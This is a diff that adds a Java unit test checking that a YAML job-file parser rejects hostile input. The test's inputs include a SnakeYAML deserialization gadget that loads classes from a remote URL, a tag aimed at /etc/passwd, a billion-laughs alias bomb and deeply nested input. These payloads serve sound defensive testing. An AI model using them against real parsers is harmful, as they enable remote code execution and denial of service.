@@ -335,6 +335,37 @@ class JobFileTest {
   }
 
   @Test
+  void refusesYamlThatIsMeantToHarm() {
+    assertThatThrownBy(
+            () ->
+                parse(
+                    LEAST
+                        + "variants: !!javax.script.ScriptEngineManager"
+                        + " [!!java.net.URLClassLoader [[!!java.net.URL ['http://x/']]]]\n"))
+        .isInstanceOf(IllegalArgumentException.class)
+        .hasMessage(
+            "Cannot read the job file: tags such as !!javax.script.ScriptEngineManager are not"
+                + " supported");
+    assertThatThrownBy(() -> parse(LEAST, "model.path=!!java.io.File /etc/passwd"))
+        .hasMessage("Cannot read model.path: tags such as !!java.io.File are not supported");
+    StringBuilder laughs = new StringBuilder("a0: &a0 [ha, ha, ha, ha, ha, ha, ha, ha, ha, ha]\n");
+    for (int i = 1; i < 12; i++) {
+      laughs.append("a%d: &a%d [%s]\n".formatted(i, i, ("*a" + (i - 1) + ", ").repeat(10)));
+    }
+    assertThatThrownBy(() -> parse(laughs.toString()))
+        .hasMessage("Cannot read the job file: aliases such as *a0 are not supported");
+    for (String deep : List.of("[".repeat(100_000), "{a: ".repeat(100_000), "- ".repeat(100_000))) {
+      assertThatThrownBy(() -> parse(deep))
+          .isInstanceOf(IllegalArgumentException.class)
+          .hasMessageStartingWith("Cannot read the job file: malformed")
+          .hasMessageNotContaining("\n");
+    }
+    assertThatThrownBy(() -> parse("a: " + "x".repeat(1_100_000)))
+        .isInstanceOf(IllegalArgumentException.class)
+        .hasMessageStartingWith("Cannot read the job file: malformed");
+  }
+
+  @Test
   void readsFiles(@TempDir Path folder) throws IOException {
     Path job = Files.writeString(folder.resolve("job.yaml"), LEAST);
     assertThat(JobFile.read(job, List.of())).isEqualTo(parse(LEAST));
